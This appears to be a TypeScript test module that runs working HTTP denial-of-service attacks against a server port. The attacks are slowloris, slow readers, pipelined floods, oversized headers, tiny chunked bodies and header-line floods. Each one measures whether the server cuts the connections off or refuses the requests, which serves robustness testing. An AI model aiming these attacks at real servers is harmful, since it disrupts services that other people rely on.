/**
 * What malicious clients do. Each attack works for a bounded time against one port and
 * returns its outcome.
 */
import { head, pause } from "./traffic.ts";
import { latin1, WireClient } from "./wire_client.ts";

/** The port, the duration, and the share of the full attack. */
export interface Target {
  readonly port: number;
  readonly ms: number;
  readonly scale: number;
}

/** The outcome: figures by name. */
export type Outcome = { readonly [figure: string]: number };

/** One attack; resolves when its time is over and its connections are closed. */
export type Attack = (target: Target) => Promise<Outcome>;

/** The connections of a full attack. */
const MANY = 1000;
const MIB = 2 ** 20;
/** Milliseconds without a byte taken, after which the sender counts as stopped. */
const STALLED = 1500;

const CHUNKED = head("POST", "/count", "Transfer-Encoding: chunked");

/** Connections, with a record of which of them the server has closed. */
class Swarm {
  readonly open = new Set<WireClient>();
  opened = 0;

  /** Opens `count` connections, each of which begins with the same bytes. */
  async grow(port: number, count: number, first: string | Uint8Array): Promise<void> {
    for (let left = count; left > 0; left--) {
      const client = await WireClient.connect(port);
      this.opened++;
      this.open.add(client);
      await this.send(client, first);
    }
  }

  /** Sends bytes; drops a connection that does not take them. */
  async send(client: WireClient, bytes: string | Uint8Array): Promise<void> {
    try {
      await client.send(bytes);
    } catch {
      this.#drop(client);
    }
  }

  /** Reads and discards all responses: the end of the stream shows that the server has closed. */
  watch(): void {
    for (const client of this.open) {
      const over = () => this.#drop(client);
      readToEnd(client).then(over, over);
    }
  }

  /** Closes what the server has left open and returns how many it has closed. */
  end(): number {
    const left = this.open.size;
    for (const client of this.open) this.#drop(client);
    return this.opened - left;
  }

  #drop(client: WireClient): void {
    this.open.delete(client);
    client.close();
  }
}

async function readToEnd({ conn }: WireClient): Promise<void> {
  const waste = new Uint8Array(1024);
  while (await conn.read(waste) !== null);
}

function many(scale: number): number {
  return Math.max(1, Math.round(MANY * scale));
}

/** Sends one byte of a head now and then. */
async function slowloris({ port, ms, scale }: Target): Promise<Outcome> {
  const end = performance.now() + ms;
  const swarm = new Swarm();
  await swarm.grow(port, many(scale), "GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ");
  swarm.watch();
  while (performance.now() < end && swarm.open.size > 0) {
    for (const client of swarm.open) await swarm.send(client, "a");
    await pause(500);
  }
  return { connections: swarm.opened, "cut off": swarm.end() };
}

/** Requests 10 MB and reads a kilobyte per second: too little to matter, enough to look alive. */
async function slowReaders({ port, ms, scale }: Target): Promise<Outcome> {
  const end = performance.now() + ms;
  const swarm = new Swarm();
  await swarm.grow(port, many(scale), head("GET", "/make?n=10000000"));
  let bytes = 0;
  const waste = new Uint8Array(1024);
  while (performance.now() < end && swarm.open.size > 0) {
    for (const client of swarm.open) bytes += await client.conn.read(waste).catch(() => 0) ?? 0;
    await pause(1000);
  }
  // The kernel still holds bytes for a connection that was cut off; a failing send reveals it.
  for (const client of swarm.open) await swarm.send(client, "\r\n");
  await pause(50);
  for (const client of swarm.open) await swarm.send(client, "\r\n");
  return { connections: swarm.opened, "cut off": swarm.end(), "bytes read": bytes };
}

/** Sends 800 MiB of requests behind one whose handler waits. */
async function pipeline({ port, ms, scale }: Target): Promise<Outcome> {
  using client = await WireClient.connect(port);
  const wanted = 800 * MIB * scale;
  const block = latin1(head("GET", "/text?n=1").repeat(1500));
  await client.send(head("GET", `/wait?ms=${ms}`));
  let taken = 0;
  let last = performance.now();
  const sending = (async () => {
    for (let at = 0; taken < wanted; last = performance.now()) {
      const count = await client.conn.write(block.subarray(at));
      taken += count;
      at = (at + count) % block.length;
    }
  })().catch(() => {});
  const end = performance.now() + ms;
  while (taken < wanted && performance.now() < end && performance.now() - last < STALLED) {
    await pause(50);
  }
  client.close();
  await sending;
  return { "MiB offered": Math.round(wanted / MIB), "KiB taken": Math.round(taken / 1024) };
}

/** Sends most of a head of 32 KiB at once, the rest byte by byte: a nearly full head costs most. */
async function longHeads({ port, ms, scale }: Target): Promise<Outcome> {
  const end = performance.now() + ms;
  const swarm = new Swarm();
  const lines = Array.from({ length: 4 }, (_, at) => `X-${at}: ${"a".repeat(7000)}\r\n`);
  const beginning = `GET / HTTP/1.1\r\nHost: a\r\n${lines.join("")}X-Slow: `;
  await swarm.grow(port, many(scale), latin1(beginning));
  swarm.watch();
  let bytes = 0;
  for (const byte = latin1("a"); performance.now() < end && swarm.open.size > 0;) {
    for (const client of swarm.open) {
      if (performance.now() > end) break;
      await swarm.send(client, byte);
      bytes++;
    }
    await pause(1000 / 64);
  }
  return { connections: swarm.opened, "cut off": swarm.end(), "single bytes": bytes };
}

/** Sends the same bytes as long as they are taken; returns the status that ended it, 0 for none. */
async function flood(
  port: number,
  first: string,
  block: Uint8Array,
  end: number,
): Promise<{ bytes: number; status: number }> {
  using client = await WireClient.connect(port);
  let bytes = 0;
  let status = 0;
  const answered = client.answer().then((answer) => status = answer.status, () => {});
  try {
    await client.send(first);
    while (status === 0 && performance.now() < end) bytes += await client.conn.write(block);
  } catch {
    // The server has refused the request and closed after lingering.
  }
  await Promise.race([answered, pause(500)]);
  client.close();
  return { bytes, status };
}

/** Sends chunks of one byte, plain and with everything that may surround them. */
async function tinyChunks({ port, ms, scale }: Target): Promise<Outcome> {
  const end = performance.now() + ms;
  const plain = latin1("1\r\nx\r\n".repeat(10_000));
  const padded = latin1(`0000000000001;${"e".repeat(50)}=1\r\nx\r\n`.repeat(1000));
  let bytes = 0;
  let refused = 0;
  const one = async (block: Uint8Array) => {
    while (performance.now() < end) {
      const outcome = await flood(port, CHUNKED, block, end);
      bytes += outcome.bytes;
      if (outcome.status >= 400) refused++;
    }
  };
  const pairs = Math.max(1, Math.round(10 * scale));
  await Promise.all(Array.from({ length: pairs }, () => [one(plain), one(padded)]).flat());
  return { connections: pairs * 2, MB: Math.round(bytes / 1e6), refused };
}

/** Sends 10 million header lines, over requests that are refused for them. */
async function headerLines({ port, ms, scale }: Target): Promise<Outcome> {
  const end = performance.now() + ms;
  const wanted = 10e6 * scale;
  const line = "a:b\r\n";
  const block = latin1(line.repeat(10_000));
  let lines = 0;
  let refused = 0;
  const one = async () => {
    while (lines < wanted && performance.now() < end) {
      // A refused request is read for this long at most; then the connection is closed.
      const most = Math.min(end, performance.now() + 500);
      const outcome = await flood(port, "GET / HTTP/1.1\r\nHost: a\r\n", block, most);
      lines += outcome.bytes / line.length;
      if (outcome.status >= 400) refused++;
    }
  };
  await Promise.all(Array.from({ length: 20 }, one));
  return { lines: Math.round(lines), refused };
}

/** All attacks by name. */
export const ATTACKS: ReadonlyMap<string, Attack> = new Map([
  ["slowloris", slowloris],
  ["slow readers", slowReaders],
  ["pipeline", pipeline],
  ["long heads", longHeads],
  ["tiny chunks", tinyChunks],
  ["header lines", headerLines],
]);
